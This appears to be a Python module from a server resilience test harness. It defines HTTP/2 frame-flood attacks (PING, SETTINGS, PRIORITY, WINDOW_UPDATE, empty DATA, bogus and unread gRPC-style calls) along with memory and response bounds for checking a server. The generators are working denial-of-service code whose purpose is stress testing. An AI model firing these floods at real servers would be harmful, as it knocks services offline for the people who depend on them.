"""Attacks by frames that cost little to send, on two connections, without a pause."""

import struct

import h2
from attack import Bounds, attack, flood
from attacks.connections import GET_TIME

# Whoever reads for one plane reads for all of them, and what a host has not come to, it keeps: see
# the README. A short flood is 300 bursts of 100 calls or 1,000 frames.
SILENCED = Bounds(growth_mib=900, answered=0.0, probed=0.0)


@attack(bounds=SILENCED)
def ping_flood(target, until):
    """PING frames"""
    pings = h2.frame(h2.PING, 0, 0, bytes(8)) * 1000
    return flood(target, until, lambda connection: pings)


@attack(bounds=SILENCED)
def settings_flood(target, until):
    """SETTINGS frames, each to be acknowledged"""
    frames = b"".join(h2.settings(initial_window_size=65535 - number % 2) for number in range(1000))
    return flood(target, until, lambda connection: frames)


@attack(bounds=SILENCED)
def empty_settings_flood(target, until):
    """SETTINGS frames with nothing in them"""
    frames = h2.settings() * 1000
    return flood(target, until, lambda connection: frames)


@attack(bounds=SILENCED)
def priority_flood(target, until):
    """PRIORITY frames of streams that nobody opened"""
    def burst(connection):
        return b"".join(h2.frame(h2.PRIORITY, 0, stream, struct.pack(">IB", 0, 1))
                        for stream in range(1, 2001, 2))
    return flood(target, until, burst)


@attack(bounds=SILENCED)
def window_update_flood(target, until):
    """WINDOW_UPDATE frames of one byte each, for the connection"""
    frames = h2.window_update(0, 1) * 1000
    return flood(target, until, lambda connection: frames)


def in_one_call(kind, flags, payload=b""):
    """Bursts of a frame in one open call of the connection."""
    def burst(connection):
        start = b""
        if connection.next_stream == 1:
            connection.streams(1)
            start = h2.open_call(1, GET_TIME)
        return start + h2.frame(kind, flags, 1, payload) * 1000
    return burst


@attack(bounds=SILENCED)
def empty_data_flood(target, until):
    """DATA frames with nothing in them, in a call that stays open"""
    return flood(target, until, in_one_call(h2.DATA, 0))


@attack(bounds=SILENCED)
def call_window_flood(target, until):
    """WINDOW_UPDATE frames of one byte each, for a call that stays open"""
    return flood(target, until, in_one_call(h2.WINDOW_UPDATE, 0, struct.pack(">I", 1)))


@attack(bounds=SILENCED)
def unknown_path_flood(target, until):
    """calls of a method that there is not"""
    block = h2.call_headers("/no.such.Service/Method")

    def burst(connection):
        return b"".join(h2.whole_call(stream, block) for stream in connection.streams(100))
    return flood(target, until, burst)


@attack(bounds=SILENCED)
def call_flood(target, until):
    """good calls, more than can be served, unread"""
    def burst(connection):
        return b"".join(h2.whole_call(stream, GET_TIME) for stream in connection.streams(100))
    return flood(target, until, burst)
